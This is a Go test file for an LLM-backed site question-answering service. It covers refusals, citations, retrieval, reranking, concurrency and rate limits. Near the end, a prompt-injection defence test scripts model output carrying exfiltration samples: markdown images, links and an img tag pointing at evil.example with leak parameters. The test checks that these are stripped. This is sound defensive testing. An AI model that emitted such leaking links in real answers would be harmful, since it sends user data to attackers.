@@ -1,0 +1,477 @@
+package answer_test
+
+import (
+	"context"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io"
+	"iter"
+	"net/http"
+	"net/http/httptest"
+	"slices"
+	"strings"
+	"sync"
+	"testing"
+
+	"docent/db"
+	"docent/db/dbtest"
+	"docent/internal/account"
+	"docent/internal/answer"
+	"docent/internal/config"
+	"docent/internal/llm"
+	"docent/internal/llm/llmtest"
+	"docent/internal/tool"
+)
+
+// change edits the site's agent.
+func (s *site) change(edit func(*config.Agent)) {
+	s.t.Helper()
+	agent, err := config.Get[config.Agent](s.t.Context(), s.opts.Config, "site")
+	if err != nil {
+		s.t.Fatal(err)
+	}
+	edit(&agent)
+	if err := config.Put(s.t.Context(), s.opts.Config, "site", agent, ""); err != nil {
+		s.t.Fatal(err)
+	}
+}
+
+func (s *site) settings(edit func(*config.AnswerSettings)) {
+	s.t.Helper()
+	all, err := config.Get[config.AnswerSettings](s.t.Context(), s.opts.Config, "site")
+	if err != nil {
+		s.t.Fatal(err)
+	}
+	edit(&all)
+	if err := config.Put(s.t.Context(), s.opts.Config, "site", all, ""); err != nil {
+		s.t.Fatal(err)
+	}
+}
+
+// reopen starts the service again with other options.
+func (s *site) reopen(edit func(*answer.Options)) {
+	s.t.Helper()
+	s.Close(s.t.Context())
+	edit(&s.opts)
+	s.restart()
+}
+
+// "When streaming, what has reached the client stays; the no-answer message stands
+// exactly when nothing did."
+func TestNoAnswerStandsExactlyWhenNothingReachedTheClient(t *testing.T) {
+	for _, tt := range []struct {
+		name     string
+		delivery answer.Delivery
+		question string
+		says     string
+		refused  bool
+	}{
+		{"whole, no source, text", answer.Whole, "zzyzx qwertz?", "Paris.", true},
+		{"whole, no source, no text", answer.Whole, "zzyzx qwertz?", "", true},
+		{"whole, sources, no text", answer.Whole, "opening hours", "", true},
+		{"whole, sources, text", answer.Whole, "opening hours", "At ten [1].", false},
+		{"stream, no source, text", answer.Stream, "zzyzx qwertz?", "The sources do not say.", false},
+		{"stream, no source, no text", answer.Stream, "zzyzx qwertz?", "", true},
+		{"stream, sources, no text", answer.Stream, "opening hours", " \n", true},
+		{"stream, sources, text", answer.Stream, "opening hours", "At ten [1].", false},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			s := newSite(t, dbtest.SQLite(t), llmtest.NewScript(llmtest.Turn{llmtest.Text(tt.says)}))
+			st := s.wait(s.ask(answer.Question{Text: tt.question, Delivery: tt.delivery}), s.visitor)
+			if st.Refused != tt.refused || st.Refused == (strings.TrimSpace(st.FinalText) == strings.TrimSpace(tt.says)) {
+				t.Errorf("turn = %+v", st.Turn)
+			}
+			again, err := s.Turn(t.Context(), st.ID, s.visitor)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if again.Delivery != tt.delivery || html(again) != html(st) {
+				t.Errorf("stored: %+v, shown %s", again.Turn, html(st))
+			}
+		})
+	}
+}
+
+func TestRefusalOffersTheNearestPages(t *testing.T) {
+	dbtest.Each(t, func(t *testing.T, d *db.DB) {
+		s := newSite(t, d, llmtest.NewScript(llmtest.Turn{}, llmtest.Turn{}))
+		s.change(func(a *config.Agent) { a.MinScore = 1 })
+		st := s.wait(s.ask(answer.Question{Text: "what does the mill gate weigh"}), s.visitor)
+		if !st.Refused || len(st.Nearest) == 0 || len(st.Nearest) > 3 {
+			t.Fatalf("turn = %+v", st.Turn)
+		}
+		for _, l := range st.Nearest {
+			if l.Path == "/members/" {
+				t.Error("the nearest page is one that the visitor may not see")
+			}
+		}
+		again, err := s.Turn(t.Context(), st.ID, s.visitor)
+		if err != nil || !slices.Equal(again.Nearest, st.Nearest) {
+			t.Errorf("stored %v %v", again.Nearest, err)
+		}
+	})
+}
+
+// "On a follow-up turn retrieval is the agent's own decision: else the held sources
+// are reused." With the topic-drift check, a new subject is searched for first.
+func TestTopicDrift(t *testing.T) {
+	for _, tt := range []struct {
+		on       bool
+		question string
+		want     bool // tickets are among the sources
+	}{
+		{true, "What does a ticket cost for children?", true},
+		{true, "When does the museum open in winter?", false},
+		{false, "What does a ticket cost for children?", false},
+	} {
+		s := newSite(t, dbtest.SQLite(t), llmtest.NewScript(llmtest.Turn{llmtest.Text("At ten [1].")}, llmtest.Turn{llmtest.Text("So [1].")}))
+		s.change(func(a *config.Agent) { a.TopicDrift, a.MaxResults = tt.on, 1 })
+		first := s.wait(s.ask(answer.Question{Text: "opening hours museum winter"}), s.visitor)
+		second := s.wait(s.ask(answer.Question{Text: tt.question, ConversationID: first.ConversationID}), s.visitor)
+		if got := slices.Contains(titles(second.Sources), "Tickets"); got != tt.want {
+			t.Errorf("drift check %v, %q: sources %v", tt.on, tt.question, titles(second.Sources))
+		}
+		if second.Sources[0].Title != "Opening hours" {
+			t.Errorf("the held source lost its number: %v", titles(second.Sources))
+		}
+	}
+}
+
+// The system prompt: the agent's own, the contract, the guidance, the sources, then
+// other sections by priority; contexts by agent, page and language.
+func TestPromptSections(t *testing.T) {
+	model := llmtest.NewScript(llmtest.Turn{llmtest.Text("a [1]")}, llmtest.Turn{llmtest.Text("b [1]")})
+	s := newSite(t, dbtest.SQLite(t), model)
+	ctx := t.Context()
+	for name, c := range map[string]config.SiteContext{
+		"rules": {Label: "House rules", Text: map[string]string{"en": "Dogs are welcome.", "es": "Se admiten perros."}, Weight: 5},
+		"shop":  {Label: "Shop", Text: map[string]string{"en": "The shop takes cards."}, Paths: []string{"/shop/"}},
+		"other": {Label: "Other", Text: map[string]string{"en": "Nobody chose this."}},
+	} {
+		if err := config.Put(ctx, s.opts.Config, name, c, ""); err != nil {
+			t.Fatal(err)
+		}
+	}
+	s.change(func(a *config.Agent) {
+		a.Prompt, a.Guidance, a.Contexts = "OWN PROMPT", "EXTRA GUIDANCE", []string{"rules", "shop"}
+	})
+	s.wait(s.ask(answer.Question{Text: "opening hours", Page: "/shop/bags?x=1"}), s.visitor)
+	s.wait(s.ask(answer.Question{Text: "opening hours", Page: "/shopping/", Lang: "es"}), s.visitor)
+	at := -1
+	system := model.Requests()[0].Messages[0].Text
+	for _, part := range []string{"OWN PROMPT", "in square brackets, such as [4]", "EXTRA GUIDANCE", "<source number=\"1\"", "Today is ", "with the code en", "The shop takes cards.", "Dogs are welcome."} {
+		i := strings.Index(system, part)
+		if i <= at {
+			t.Errorf("%q stands at %d, after %d:\n%s", part, i, at, system)
+		}
+		at = i
+	}
+	if strings.Contains(system, "Nobody chose this") {
+		t.Error("a context that the agent does not name is in the prompt")
+	}
+	system = model.Requests()[1].Messages[0].Text
+	if !strings.Contains(system, "Se admiten perros.") || strings.Contains(system, "takes cards") {
+		t.Errorf("for another page and language:\n%s", system)
+	}
+}
+
+// "The cap skips rather than breaks, so extra chunks of entities already in are not lost."
+func TestCapCountsEntities(t *testing.T) {
+	s := newSite(t, dbtest.SQLite(t), llmtest.NewScript(llmtest.Turn{llmtest.Text("a [1]")}))
+	s.change(func(a *config.Agent) { a.MaxResults, a.MinScore = 1, 0 })
+	st := s.wait(s.ask(answer.Question{Text: "mill"}), s.visitor)
+	r, err := s.Record(t.Context(), st.LogID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	own, others := 0, 0
+	for _, h := range r.Steps[0].Hits {
+		if h.Number == 1 {
+			own++
+		} else {
+			others++
+		}
+	}
+	if len(st.Sources) != 1 || others == 0 || len(st.Sources[0].Passages) != own {
+		t.Fatalf("sources %v, %d hits of the first and %d of others", titles(st.Sources), own, others)
+	}
+	body := st.Sources[0].Body()
+	if st.Sources[0].Title != "Opening hours" {
+		return
+	}
+	if !strings.Contains(body, "ten in the morning") || !strings.Contains(body, "closes at three") {
+		t.Errorf("passages of one page: %q", body)
+	}
+}
+
+// Rounds merge: an entity keeps its number however many searches follow.
+func TestRoundsKeepNumbers(t *testing.T) {
+	model := llmtest.NewScript(
+		llmtest.Turn{llmtest.Call("search", `{"query":"ticket cost"}`), llmtest.Call("search", `{"query":"flour shop"}`)},
+		llmtest.Turn{llmtest.Call("search", `{"query":"opening hours"}`)},
+		llmtest.Turn{llmtest.Text("Flour [3], tickets [2], hours [1].")})
+	s := newSite(t, dbtest.SQLite(t), model)
+	s.change(func(a *config.Agent) { a.MaxResults = 1 })
+	st := s.wait(s.ask(answer.Question{Text: "opening hours museum"}), s.visitor)
+	if got := titles(st.Sources); !slices.Equal(got, []string{"Opening hours", "Tickets", "Flour shop"}) {
+		t.Fatalf("sources %v", got)
+	}
+	if got := titles(st.Cited()); !slices.Equal(got, []string{"Flour shop", "Tickets", "Opening hours"}) || st.FinalText != "Flour [1], tickets [2], hours [3]." {
+		t.Errorf("cited %v in %q", got, st.FinalText)
+	}
+	last := model.Requests()[2].Messages
+	if got := llm.ParseSources(last[len(last)-1].Text); len(got) != 1 || got[0].Number != 1 {
+		t.Errorf("the second time it is found, the source has the number %+v", got)
+	}
+}
+
+// "A listing is complete by design: no score gate, only its own cap; its summary
+// stands above the numbered sources; one line for each entity."
+func TestContentListIsComplete(t *testing.T) {
+	dbtest.Each(t, func(t *testing.T, d *db.DB) {
+		model := llmtest.NewScript(
+			llmtest.Turn{llmtest.Call("content_list", `{"type":"page"}`)},
+			llmtest.Turn{llmtest.Text("Hours [1] and the shop [3].")})
+		s := newSite(t, d, model)
+		s.change(func(a *config.Agent) { a.MaxResults, a.MinScore = 1, 1 })
+		st := s.wait(s.ask(answer.Question{Text: "qwertz zzyzx"}), s.visitor)
+		if got := titles(st.Sources); !slices.Equal(got, []string{"Flour shop", "Opening hours", "Tickets"}) {
+			t.Fatalf("sources %v", got)
+		}
+		messages := model.Requests()[1].Messages
+		text := messages[len(messages)-1].Text
+		if !strings.HasPrefix(text, "There are 3 pages of the type page; all are listed.\n\n<source number=\"1\"") {
+			t.Errorf("tool message %s", text)
+		}
+		if strings.Contains(text, "heron") || strings.Contains(text, "Members") {
+			t.Error("the list holds what the visitor may not see")
+		}
+		if line := st.Sources[0].Body(); line != "Flour shop (type: page)" {
+			t.Errorf("line %q", line)
+		}
+		if st.Refused || len(st.Cited()) != 2 {
+			t.Errorf("turn = %+v", st.Turn)
+		}
+	})
+}
+
+func TestContentListRefusesWhatItCannotRead(t *testing.T) {
+	model := llmtest.NewScript(
+		llmtest.Turn{llmtest.Call("content_list", `{"after":"May"}`), llmtest.Call("content_list", `{"term":"nothing like it"}`), llmtest.Call("content_list", `{"type":"novel"}`), llmtest.Call("content_list", `[]`)},
+		llmtest.Turn{llmtest.Text("Hm [1].")})
+	s := newSite(t, dbtest.SQLite(t), model)
+	s.wait(s.ask(answer.Question{Text: "opening hours"}), s.visitor)
+	var got []string
+	for _, m := range model.Requests()[1].Messages {
+		if m.Role == llm.RoleTool {
+			got = append(got, m.Text)
+		}
+	}
+	for i, part := range []string{"after must be a day like", `no topic named "nothing like it"`, "There are no pages of the type novel.", "invalid arguments"} {
+		if !strings.Contains(got[i], part) {
+			t.Errorf("result %d: %q, want %q in it", i, got[i], part)
+		}
+	}
+}
+
+// A source tool of another system: entities wrapped, told apart by their values.
+func TestSourceToolKeepsNamesakesApart(t *testing.T) {
+	model := llmtest.NewScript(
+		llmtest.Turn{llmtest.Call("programs", `{}`)},
+		llmtest.Turn{llmtest.Text("Two [1][2].")})
+	s := newSite(t, dbtest.SQLite(t), model)
+	var ids []string
+	first := s.wait(s.ask(answer.Question{Text: "opening hours ticket shop"}), s.visitor)
+	for _, src := range first.Sources {
+		ids = append(ids, src.ID)
+	}
+	if len(ids) < 2 {
+		t.Fatalf("sources %v", titles(first.Sources))
+	}
+	model = llmtest.NewScript(llmtest.Turn{llmtest.Call("programs", `{}`)}, llmtest.Turn{llmtest.Text("Two [1][2].")})
+	s.reopen(func(o *answer.Options) {
+		o.Model = model
+		o.SourceTools = func(account.Account, string) []tool.Tool {
+			return []tool.Tool{{Name: "programs", Class: tool.Read, Schema: json.RawMessage(`{"type":"object"}`), Run: func(context.Context, json.RawMessage) (tool.Result, error) {
+				entity := func(id, degree string) map[string]any {
+					return map[string]any{"_metadata": map[string]any{"type": "node", "id": id}, "degree": degree}
+				}
+				return tool.Result{Text: "2 programs", Output: map[string]any{"outputs": map[string]any{"results": []any{
+					entity(ids[0], "Bachelor"), entity(ids[1], "Master"), entity("gone", "None")}}}}, nil
+			}}}
+		}
+	})
+	s.change(func(a *config.Agent) { a.SourceTools = []string{"programs"} })
+	st := s.wait(s.ask(answer.Question{Text: "qwertz zzyzx"}), s.visitor)
+	if len(st.Sources) != 2 || !strings.HasSuffix(st.Sources[0].Body(), "(degree: Bachelor)") || !strings.HasSuffix(st.Sources[1].Body(), "(degree: Master)") {
+		t.Errorf("sources %+v", st.Sources)
+	}
+}
+
+func TestRerankOrdersAndFailsSoft(t *testing.T) {
+	broken := false
+	var asked map[string]any
+	endpoint := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if broken {
+			http.Error(w, "no", http.StatusBadGateway)
+			return
+		}
+		json.NewDecoder(r.Body).Decode(&asked)
+		documents := asked["documents"].([]any)
+		fmt.Fprintf(w, `{"results":[{"index":%d,"relevance_score":0.9},{"index":0,"relevance_score":0.1}]}`, len(documents)-1)
+	}))
+	defer endpoint.Close()
+	s := newSite(t, dbtest.SQLite(t), llmtest.NewScript(llmtest.Turn{llmtest.Text("a [1]")}, llmtest.Turn{llmtest.Text("a [1]")}, llmtest.Turn{llmtest.Text("a [1]")}))
+	s.change(func(a *config.Agent) { a.MinScore = 0 })
+	question := answer.Question{Text: "mill ticket shop museum"}
+	plain := s.wait(s.ask(question), s.visitor)
+	rerank, err := answer.NewReranker(endpoint.URL+"/v2/rerank", "rerank-1", "key")
+	if err != nil {
+		t.Fatal(err)
+	}
+	s.reopen(func(o *answer.Options) { o.Rerank = rerank })
+	ordered := s.wait(s.ask(question), s.visitor)
+	if ordered.Sources[0].Title == plain.Sources[0].Title || len(ordered.Sources) != len(plain.Sources) {
+		t.Errorf("before %v, after %v", titles(plain.Sources), titles(ordered.Sources))
+	}
+	if asked["model"] != "rerank-1" || asked["query"] != question.Text {
+		t.Errorf("request %v", asked)
+	}
+	broken = true
+	if again := s.wait(s.ask(question), s.visitor); !slices.Equal(titles(again.Sources), titles(plain.Sources)) {
+		t.Errorf("with a broken endpoint: %v", titles(again.Sources))
+	}
+}
+
+func TestModelOfAnAgent(t *testing.T) {
+	other := llmtest.NewScript(llmtest.Turn{llmtest.Text("other [1]")})
+	s := newSite(t, dbtest.SQLite(t), llmtest.NewScript())
+	s.change(func(a *config.Agent) { a.Model = "big" })
+	_, err := s.Ask(t.Context(), answer.Question{Agent: "site", Text: "opening hours", Who: s.visitor, Lang: "en"})
+	if e, ok := errors.AsType[*answer.UnusableError](err); !ok || !strings.Contains(e.Reason, "big") {
+		t.Errorf("without a server: %v", err)
+	}
+	s.reopen(func(o *answer.Options) {
+		o.ModelNamed = func(name string) (llm.Generator, error) {
+			if name != "big" {
+				return nil, errors.New("unknown")
+			}
+			return other, nil
+		}
+	})
+	temperature := 0.5
+	s.change(func(a *config.Agent) { a.Temperature, a.MaxTokens = &temperature, 77 })
+	if st := s.wait(s.ask(answer.Question{Text: "opening hours"}), s.visitor); st.FinalText != "other [1]" {
+		t.Errorf("turn = %+v", st.Turn)
+	}
+	if req := other.Requests()[0]; *req.Temperature != temperature || req.MaxTokens != 77 {
+		t.Errorf("request %v %v", req.Temperature, req.MaxTokens)
+	}
+}
+
+// parrot answers with what only its own prompt and question hold.
+type parrot struct{}
+
+func (parrot) Name() string { return "parrot" }
+
+func (parrot) Generate(ctx context.Context, r llm.Request) iter.Seq2[llm.Event, error] {
+	return func(yield func(llm.Event, error) bool) {
+		question := r.Messages[len(r.Messages)-1].Text
+		sources := llm.ParseSources(r.Messages[0].Text)
+		for _, piece := range []string{"Asked: ", question, ".", fmt.Sprintf(" Found %q", sources[0].Title), " [1].\n\n", "Done [1]."} {
+			if !yield(llm.Event{Text: piece}, nil) {
+				return
+			}
+		}
+		yield(llm.Event{Finish: llm.FinishStop}, nil)
+	}
+}
+
+// Two hundred visitors at once: no question, source or conversation of one is seen
+// by another, and nobody is turned away.
+func TestConcurrentRunsDoNotBleed(t *testing.T) {
+	dbtest.Each(t, func(t *testing.T, d *db.DB) {
+		s := newSite(t, d, parrot{})
+		s.change(func(a *config.Agent) { a.MaxResults = 1 })
+		subjects := map[string]string{"opening hours morning": "Opening hours", "ticket cost pounds": "Tickets", "wholemeal flour bags": "Flour shop"}
+		var names []string
+		for q := range subjects {
+			names = append(names, q)
+		}
+		slices.Sort(names)
+		var wg sync.WaitGroup
+		for i := range 200 {
+			wg.Go(func() {
+				who := account.Account{ID: fmt.Sprintf("visitor%d", i), Roles: s.member.Roles, Permissions: s.member.Permissions}
+				subject := names[i%len(names)]
+				question := fmt.Sprintf("%s number%d", subject, i)
+				st, err := s.Ask(t.Context(), answer.Question{Agent: "site", Text: question, Lang: "en", Who: who, Delivery: answer.Stream})
+				if err != nil {
+					t.Errorf("ask: %v", err)
+					return
+				}
+				if st, err = s.Wait(t.Context(), st.ID, who); err != nil {
+					t.Error(err)
+					return
+				}
+				want := fmt.Sprintf("Asked: %s. Found %q [1].\n\nDone [1].", question, subjects[subject])
+				if st.Status != answer.Done || st.FinalText != want || len(st.Cited()) != 1 || st.Cited()[0].Title != subjects[subject] {
+					t.Errorf("got %q, want %q", st.FinalText, want)
+				}
+				if _, states, err := s.Conversation(t.Context(), st.ConversationID, who); err != nil || len(states) != 1 {
+					t.Errorf("conversation %d turns, %v", len(states), err)
+				}
+			})
+		}
+		wg.Wait()
+	})
+}
+
+// A page whose text gives orders changes nothing: no foreign number, picture or link.
+func TestInjectedPageChangesNothing(t *testing.T) {
+	model := llmtest.NewScript(llmtest.Turn{llmtest.Text("As told [99] ![x](https://evil.example/p.png?leak=1) [click](https://evil.example/?q=1) " +
+		"<img src=//evil.example/x> [1](https://evil.example/) and [1].\n\n[1]: https://evil.example")})
+	s := newSite(t, dbtest.SQLite(t), model)
+	st := s.wait(s.ask(answer.Question{Text: "opening hours"}), s.visitor)
+	page := html(st)
+	for _, bad := range []string{"<img", "href=\"https://evil", "[99]"} {
+		if strings.Contains(page, bad) {
+			t.Errorf("%q in %s", bad, page)
+		}
+	}
+	if strings.Contains(st.FinalText, "99") || len(st.Cited()) != 1 {
+		t.Errorf("text %q", st.FinalText)
+	}
+	record, err := s.Record(t.Context(), st.LogID)
+	if err != nil || record.Dropped == 0 {
+		t.Errorf("dropped %d, %v", record.Dropped, err)
+	}
+}
+
+func TestDailyLimit(t *testing.T) {
+	dbtest.Each(t, func(t *testing.T, d *db.DB) {
+		s := newSite(t, d, llmtest.NewScript(llmtest.Turn{llmtest.Text("a [1]")}, llmtest.Turn{llmtest.Text("a [1]")}))
+		s.change(func(a *config.Agent) { a.DailyTurns = 2 })
+		for range 2 {
+			s.wait(s.ask(answer.Question{Text: "opening hours"}), s.visitor)
+		}
+		_, err := s.Ask(t.Context(), answer.Question{Agent: "site", Text: "opening hours", Lang: "en", Who: s.visitor})
+		limit, ok := errors.AsType[*answer.LimitError](err)
+		if !ok || !limit.Today || limit.RetryAfter <= 0 || limit.RetryAfter.Hours() > 25 {
+			t.Errorf("third question: %v", err)
+		}
+		if _, total, err := s.Records(t.Context(), answer.RecordFilter{}); err != nil || total != 2 {
+			t.Errorf("%d records, %v", total, err)
+		}
+	})
+}
+
+func readAll(t *testing.T, r io.Reader) string {
+	t.Helper()
+	b, err := io.ReadAll(r)
+	if err != nil {
+		t.Error(err)
+	}
+	return string(b)
+}
